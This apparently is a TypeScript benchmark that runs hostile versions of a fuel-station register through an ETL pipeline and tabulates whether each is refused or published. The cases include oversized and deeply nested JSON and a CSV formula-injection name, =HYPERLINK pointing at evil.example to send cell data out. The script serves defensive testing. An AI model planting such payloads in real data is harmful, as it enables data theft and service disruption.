// The hostile registers of issue 38 through `npm run etl` (as built) of this checkout and of BENCH_BEFORE_ROOT, in the
// same run: `BENCH_BEFORE_ROOT=<checkout, built> npx tsx bench/attack-source.ts [case …]` (every case by default).
// Each starts from a copy of a DATA_DIR holding the full register of ../shared/data and its 42 days of history
// (BENCH_ATTACK_HISTORY_DAYS; DATA_DIR=<such an ETL output> skips building it), served by the ministry stand-in in a child process with the case's register in place of
// the real one. For each: published or refused (and the category the ETL logged), whether the data served changed,
// peak RSS, wall time, and where a station's text is the attack, the size of its detail and nearby answers from the
// compiled server of the same checkout.
import { mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { ensureBuild, ROOT } from '../bin/build-if-stale.mjs';
import { SNAPSHOT_DOWNLOADS_DIR } from '../core/data-dir/layout.js';
import type { RawStation, RawStationList } from '../etl/source/source.js';
import { SHARED_MINISTRY_DIR, WITHOUT_SHARED } from '../test/support/data-paths.js';
import { startCompiledServer, stopCompiledServer } from './compiled-server.js';
import { type CliRun, copyDir, runEtlCli, startFixture, stopFixture } from './etl-cli-run.js';
import { buildRealDataDir } from './real-dataset.js';

const HISTORY_DAYS = Number(process.env.BENCH_ATTACK_HISTORY_DAYS ?? 42);
const BEFORE_ROOT = process.env.BENCH_BEFORE_ROOT;
const MB = 1024 * 1024;
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Pulse aquí")';

interface Attack {
  name: string;
  /** The register the stand-in answers, from the real one (parsed). */
  register: (real: RawStationList) => string;
  /** Run on the DATA_DIR the case before it left, not on a fresh copy. */
  follows?: boolean;
  /** The attacked station's answers are measured. */
  station?: boolean;
}

/** The station attacked: the register's first that sells diesel (so that the nearby search for diesel finds it). */
const targetOf = (real: RawStationList): RawStation => {
  const station = real.ListaEESSPrecio.find((r) => r['Precio Gasoleo A'] !== '');
  if (!station) throw new Error('no station sells diesel');
  return station;
};
const withFecha = (real: RawStationList, Fecha: string) => JSON.stringify({ ...real, Fecha });
/** The real register with `fields` in the attacked station's record. */
const withFields = (real: RawStationList, fields: Partial<RawStation>) => {
  const target = targetOf(real);
  return JSON.stringify({
    ...real,
    ListaEESSPrecio: real.ListaEESSPrecio.map((r) => (r === target ? { ...r, ...fields } : r)),
  });
};
/** The real register's text with `value` (JSON text) as the value of a new key of a record, or as its Nota. */
const withValue = (real: RawStationList, where: 'record' | 'Nota', value: string) => {
  const text = JSON.stringify(real);
  if (where === 'Nota') return text.replace(/"Nota":"(?:[^"\\]|\\.)*"/, () => `"Nota":${value}`);
  const id = targetOf(real).IDEESS;
  return text.replace(`"IDEESS":"${id}"`, () => `"IDEESS":"${id}","Observaciones":${value}`);
};
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

const ATTACKS: Attack[] = [
  { name: 'Fecha 21/05/2027 8:00:00 (in the future)', register: (real) => withFecha(real, '21/05/2027 8:00:00') },
  {
    name: '… then the true register of the next day',
    register: (real) => withFecha(real, '23/08/2026 15:53:31'),
    follows: true,
  },
  { name: 'a 4 MB name', register: (real) => withFields(real, { Rótulo: 'A'.repeat(4 * MB) }), station: true },
  { name: 'a 20 MB name', register: (real) => withFields(real, { Rótulo: 'A'.repeat(20 * MB) }), station: true },
  { name: 'a record nested 10 million deep', register: (real) => withValue(real, 'record', nested(10_000_000)) },
  { name: 'a Nota nested 10 million deep', register: (real) => withValue(real, 'Nota', nested(10_000_000)) },
  { name: 'a 50 MB string in a record', register: (real) => withValue(real, 'record', `"${'x'.repeat(50 * MB)}"`) },
  { name: 'a 50 MB Nota', register: (real) => withValue(real, 'Nota', `"${'x'.repeat(50 * MB)}"`) },
  {
    name: '5 × the stations',
    register: (real) =>
      JSON.stringify({
        ...real,
        ListaEESSPrecio: [0, 1, 2, 3, 4].flatMap((k) =>
          real.ListaEESSPrecio.map((r) => ({ ...r, IDEESS: String(Number(r.IDEESS) + k * 1_000_000) })),
        ),
      }),
  },
  { name: 'a name =HYPERLINK(…)', register: (real) => withFields(real, { Rótulo: FORMULA }), station: true },
];

interface Outcome {
  run: CliRun;
  /** published, or the category the ETL logged when it failed, or how it ended. */
  verdict: string;
  servedChanged: boolean;
  archiveMonths: string[];
  detailBytes?: number;
  nearbyBytes?: number;
  csvName?: string;
}

const manifestOf = (dataDir: string) => {
  try {
    return JSON.parse(readFileSync(join(dataDir, 'manifest.json'), 'utf8')) as { snapshot: string };
  } catch {
    return null;
  }
};
const archiveMonths = (dataDir: string) =>
  [...new Set(readdirSync(join(dataDir, 'archive')).map((f) => /-(\d{4}-\d{2})\./.exec(f)?.[1]))].filter(
    (m): m is string => m !== undefined,
  );

/** The attacked station's detail and nearby answers (bytes, uncompressed) from `root`'s compiled server. */
async function stationAnswers(root: string, dataDir: string, station: RawStation) {
  const server = await startCompiledServer({ dataDir, root });
  try {
    const size = async (path: string) => {
      const answer = await fetch(`http://127.0.0.1:${server.port}${path}`, {
        headers: { 'Accept-Encoding': 'identity', 'X-Forwarded-For': '192.0.2.1' },
      });
      return (await answer.arrayBuffer()).byteLength;
    };
    const at = (text: string | undefined) => (text ?? '').replace(',', '.');
    return {
      detailBytes: await size(`/v1/stations/${station.IDEESS}`),
      nearbyBytes: await size(
        `/v1/stations/nearby?lat=${at(station.Latitud)}&lng=${at(station['Longitud (WGS84)'])}&radius_km=1&fuel=diesel`,
      ),
    };
  } finally {
    await stopCompiledServer(server);
  }
}

/** The name cell of the attacked station in the published stations.csv, as written. */
function csvName(dataDir: string, id: string): string | undefined {
  const manifest = manifestOf(dataDir);
  if (!manifest) return undefined;
  const csv = readFileSync(join(dataDir, manifest.snapshot, SNAPSHOT_DOWNLOADS_DIR, 'stations.csv'), 'utf8');
  const line = csv.split('\n').find((row) => row.startsWith(`${id},`));
  return line?.slice(id.length + 1, id.length + 1 + 24);
}

async function attack(root: string, dataDir: string, body: string, real: RawStationList, station: boolean) {
  const dir = mkdtempSync(join(tmpdir(), 'fuel-attack-register-'));
  writeFileSync(join(dir, 'EstacionesTerrestres.json'), body);
  for (const part of ['Listados', 'EstacionesTerrestresHist'])
    symlinkSync(join(SHARED_MINISTRY_DIR, part), join(dir, part));
  const fixture = await startFixture(dir);
  const served = manifestOf(dataDir)?.snapshot;
  const monthsBefore = archiveMonths(dataDir);
  try {
    const run = await runEtlCli(root, dataDir, fixture.baseUrl);
    const failed = run.events.find((e) => e.event === 'etl_failed');
    const published = run.events.some((e) => e.event === 'refresh_published');
    const verdict = published ? 'published' : failed ? `refused: ${failed.category}` : `died (${run.exit})`;
    const outcome: Outcome = {
      run,
      verdict,
      servedChanged: manifestOf(dataDir)?.snapshot !== served,
      archiveMonths: archiveMonths(dataDir).filter((m) => !monthsBefore.includes(m)),
    };
    const target = targetOf(real);
    if (station) Object.assign(outcome, await stationAnswers(root, dataDir, target));
    if (station) outcome.csvName = csvName(dataDir, target.IDEESS ?? '');
    return outcome;
  } finally {
    await stopFixture(fixture);
    rmSync(dir, { recursive: true, force: true });
  }
}

const kb = (bytes: number | undefined) => (bytes === undefined ? '' : `${(bytes / 1024).toFixed(1)} KB`);

async function main(): Promise<void> {
  const wanted = process.argv.slice(2);
  const given = process.env.DATA_DIR;
  const fullDir = given ?? (await buildRealDataDir(HISTORY_DAYS, 'fuel-attack-'));
  if (!fullDir) {
    console.log(WITHOUT_SHARED);
    return;
  }
  await ensureBuild({ docs: false });
  const real = JSON.parse(
    gunzipSync(readFileSync(join(SHARED_MINISTRY_DIR, 'EstacionesTerrestres.json.gz'))).toString('utf8'),
  ) as RawStationList;
  const checkouts: [string, string][] = BEFORE_ROOT
    ? [
        ['before', BEFORE_ROOT],
        ['now', ROOT],
      ]
    : [['now', ROOT]];
  if (!BEFORE_ROOT) console.log('(BENCH_BEFORE_ROOT not set: this code only)');
  const rows: string[] = [];
  try {
    for (const [name, root] of checkouts) {
      let dataDir = '';
      for (const attackCase of ATTACKS) {
        if (wanted.length > 0 && !wanted.some((w) => attackCase.name.includes(w))) continue;
        if (!attackCase.follows || dataDir === '') {
          if (dataDir) rmSync(dataDir, { recursive: true, force: true });
          dataDir = copyDir(fullDir, 'fuel-attack-');
        }
        const body = attackCase.register(real);
        const o = await attack(root, dataDir, body, real, attackCase.station ?? false);
        rows.push(
          `| ${attackCase.name} | ${name} | ${o.verdict} | ${o.servedChanged ? 'yes' : 'no'} | ${o.archiveMonths.join(', ') || '–'} | ${o.run.peakMb.toFixed(0)} | ${o.run.seconds.toFixed(1)} | ${kb(o.detailBytes)} | ${kb(o.nearbyBytes)} | ${o.csvName === undefined ? '' : `\`${o.csvName}\``} |`,
        );
        console.error(rows.at(-1));
      }
      if (dataDir) rmSync(dataDir, { recursive: true, force: true });
    }
  } finally {
    if (!given) rmSync(fullDir, { recursive: true, force: true });
  }
  console.log(
    `\nHostile registers through \`npm run etl -- --backfill-days 0\` (as built), on the full register with ${HISTORY_DAYS} days of history, load average ${loadavg()[0]?.toFixed(1)}`,
  );
  console.log(
    '| register | code | outcome | served data changed | new archive months | peak RSS (MB) | wall (s) | station detail | nearby | stations.csv name cell |',
  );
  console.log('|---|---|---|---|---|---:|---:|---:|---:|---|');
  for (const row of rows) console.log(row);
}

await main();
